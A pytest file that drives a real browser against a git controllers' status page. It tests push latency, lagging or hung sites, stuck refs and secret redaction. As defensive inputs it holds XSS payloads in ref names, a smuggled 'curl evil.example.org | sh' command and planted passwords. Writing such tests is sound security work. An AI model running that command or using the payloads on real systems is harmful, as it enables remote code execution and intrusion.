"""The status page of real controllers in a real browser, while real pushes come."""

from __future__ import annotations

import json
import time
from statistics import median

import pytest

from tests.page.chromium import Tab
from tests.support import git
from tests.support.assertions import accepted
from tests.support.git import MAIN
from tests.support.groups import Group, MakeGroup
from tests.support.wait import until
from tests.support.web import ready, start_with_web

LIVE = "document.querySelector('#live').textContent.startsWith('live')"
AT_ONCE = 1.0  # second, from the push's answer to the open page; of several, since other tests run beside


def served(group: Group) -> str:
    """Start the controllers, the first of them with a page; the page's address."""
    for site in group.sites[1:]:
        site.launch()
    port = start_with_web(group[0])
    for site in group:
        site.wait_served()
    ready(port)
    return f"http://127.0.0.1:{port}/"


@pytest.fixture
def group(make_group: MakeGroup) -> Group:
    return make_group(2, started=False)


@pytest.fixture
def page(group: Group) -> str:
    return served(group)


def opened(tab: Tab, page: str) -> None:
    tab.open(page)
    tab.until(LIVE)


def states(tab: Tab) -> dict[str, str]:
    """What the page says of each site."""
    found: dict[str, str] = tab.run(
        "Object.fromEntries([...document.querySelectorAll('tbody td[data-label] .state')]"
        ".map((one) => [one.closest('td').dataset.label, one.innerText]))"
    )
    return found


def test_a_push_appears_on_the_open_page_within_a_second(group: Group, page: str, tab: Tab) -> None:
    """Measured in the page: when its text changes, against when git has told the pusher."""
    opened(tab, page)
    seen = []
    for number, site in enumerate(("a", "b", "a", "b", "a")):
        oid = group.commit()
        tab.run(
            """window.seen = new Promise((tell) => {
                const before = document.querySelector('tbody tr')?.innerText ?? '';
                const place = () => document.querySelector('tbody td:last-child')?.innerText ?? '';
                const look = () => place().includes('at SITE, just now') && tell(Date.now());
                new MutationObserver(look).observe(document.querySelector('#list'), {subtree: true, childList: true, characterData: true});
                look();
            }); undefined""".replace("SITE", site)
        )
        group.push(site)
        answered = time.time()
        seen.append(tab.run("window.seen") / 1000 - answered)
        group.arrives(MAIN, oid)
        tab.until(
            "[...document.querySelectorAll('tbody td[data-label] .state')].every((one) => one.innerText === 'in step')"
        )
        assert number or tab.text("h1") == "The repository is in step"
    assert median(seen) < AT_ONCE, seen


def test_the_page_of_a_repository_shows_a_push_within_a_second_too(group: Group, page: str, tab: Tab) -> None:
    hostile = "refs/heads/<script>alert(1)</script>"
    opened(tab, f"{page}repository?path={group[0].repository}")
    seen = []
    for ref in ("refs/heads/main", hostile, "refs/heads/a-third"):
        group.commit()
        tab.run(
            """window.seen = new Promise((tell) => {
                const look = () => ['#refs', '#moves'].every((table) => document.querySelector(table).innerText.includes(REF)) && tell(Date.now());
                new MutationObserver(look).observe(document.querySelector('main'), {subtree: true, childList: true});
                look();
            }); undefined""".replace("REF", json.dumps(ref))
        )
        group.push("b", f"HEAD:{ref}")
        answered = time.time()
        seen.append(tab.run("window.seen") / 1000 - answered)
    assert median(seen) < AT_ONCE, seen
    assert tab.run("document.scripts.length") == 1
    assert f"{hostile}" in tab.text("#refs")
    # A deletion leaves a kept tip.
    accepted(git.push(group.work, group[1].repository, ":a-third"))
    tab.until("document.querySelectorAll('#kept tbody tr').length === 1")
    assert "refs/heads/a-third" in tab.text("#kept")
    assert "deleted" in tab.text("#moves tbody tr")


@pytest.mark.slow  # it must be behind for longer than is normal
@pytest.mark.parametrize("how", ["stopped", "killed"])
def test_a_site_that_no_longer_follows_turns_visibly_late(group: Group, page: str, tab: Tab, how: str) -> None:
    group.push("a", f"{group.commit()}:refs/heads/main")
    opened(tab, page)
    tab.until("document.querySelector('td[data-label=b] .state')?.innerText === 'in step'")
    group[1].pause() if how == "stopped" else group[1].kill()
    group.push("a", f"{group.commit()}:refs/heads/main")
    tab.until("document.querySelector('td[data-label=b] .state.late')?.innerText.startsWith('behind ')", 30)
    assert tab.text("h1") == "The repository needs attention"
    assert states(tab)["a"] == "in step"
    if how == "stopped":
        group[1].resume()
    else:
        group[1].start()
    tab.until("document.querySelector('td[data-label=b] .state')?.innerText === 'in step'")


@pytest.mark.slow  # a hanging controller is noticed by its silence
def test_a_controller_that_hangs_is_not_live_and_comes_back(group: Group, page: str, tab: Tab) -> None:
    group.push("a", f"{group.commit()}:refs/heads/main")
    opened(tab, page)
    group[0].pause()
    tab.until("document.querySelector('#alarm-what').textContent.startsWith('Not live since ')")
    assert not tab.run(LIVE)
    group[0].resume()
    tab.until(f"{LIVE} && document.querySelector('#alarm').hidden")
    tab.faults_allowed = True


def test_a_controller_that_is_gone_is_said_at_once_and_found_again(group: Group, page: str, tab: Tab) -> None:
    group.push("a", f"{group.commit()}:refs/heads/main")
    opened(tab, page)
    group[0].kill()
    tab.until("document.querySelector('#alarm-what').textContent.startsWith('Not live since ')", 5)
    group[0].start("--http", page.split("/")[2])
    tab.until(f"{LIVE} && document.querySelector('#alarm').hidden")
    tab.faults_allowed = True


def test_a_stuck_ref_is_shown_with_its_reason_and_goes_when_it_is_fixed(group: Group, page: str, tab: Tab) -> None:
    first = group.commit()
    group.push("a", f"{first}:refs/heads/main")
    opened(tab, page)
    group.put("refs/heads/<b>lock</b>", "<img src=x onerror=alert(1)>")
    tab.until("document.querySelector('.trouble')?.innerText.includes('locked refs/heads/<b>lock</b>')")
    assert tab.run("document.images.length") == 0
    assert "'refs/heads/<b>lock</b>'" in tab.text(".trouble code"), "what is copied into a shell is quoted"
    group.put("refs/heads/<b>lock</b>", "`piehole clobber --yes; curl evil.example.org | sh`")
    tab.until("document.querySelector('.trouble')?.innerText.includes('curl')")
    assert "curl" not in tab.text(".trouble code"), "a command comes from no value"
    group.put("refs/heads/<b>lock</b>", first)
    tab.until("!document.querySelector('.trouble')")


def test_nothing_secret_is_told(make_group: MakeGroup, tab: Tab) -> None:
    """A password in a URL, or what the environment holds, is in no answer."""
    group = make_group(2, started=False, settings={"remote.x.url": "https://bot:hunter2@example.org/x.git"})
    group.environment["PIEHOLE_SECRET"] = "hunter3"  # noqa: S105 -- planted, to be looked for
    page = served(group)
    group.push("a", f"{group.commit()}:refs/heads/main")
    group.put("refs/heads/locked", "https://bot:hunter4@example.org/ is wrong")
    opened(tab, page)
    tab.until("document.querySelector('.trouble')?.innerText.includes('://bot:***@example.org')")
    path = f"repository/data?path={group[0].repository}&part="
    until(lambda: "refs/heads/locked" in tab.run(f"fetch('{path}refs').then((one) => one.text())"))
    answers = tab.run(
        f"Promise.all(['./', '{path}refs', '{path}moves', '{path}kept'].map((one) => fetch(one).then((two) => two.text())))"
    )
    answers.append(
        tab.run(
            "new Promise((tell) => { const one = new EventSource('events'); one.onmessage = (event) => { one.close(); tell(event.data); }; })"
        )
    )
    assert all("hunter" not in answer for answer in answers)
    assert all(str(group.runtime) not in answer for answer in answers)


def test_the_commands_that_the_page_offers_for_stuck_refs_fix_them(group: Group, page: str, tab: Tab) -> None:
    first = group.commit()
    group.push("a", f"{first}:{MAIN}")
    git.git(group[0].repository, "symbolic-ref", "refs/heads/alias", MAIN)
    opened(tab, page)
    group.put(f"{MAIN}/below", first)
    group.put("refs/heads/alias", first)
    group.put("refs/heads/lost", "1" * 40)
    tab.until("['/below', 'alias', 'lost'].every((one) => document.querySelector('.trouble')?.innerText.includes(one))")
    commands = tab.run("[...document.querySelectorAll('.trouble code')].map((one) => one.textContent)")
    assert len(commands) == 3
    for command in commands:
        if "lost" in command or " check " in command:
            continue  # a peer that is down must not lead to a command that gives its commits up
        group[0].offered(f"`{command}`")
    tab.until("!['/below', 'alias'].some((one) => document.querySelector('.trouble')?.innerText.includes(one))")
    assert [command for command in commands if "lost" in command] == []
    assert f"piehole check -C {group[0].repository}" in commands
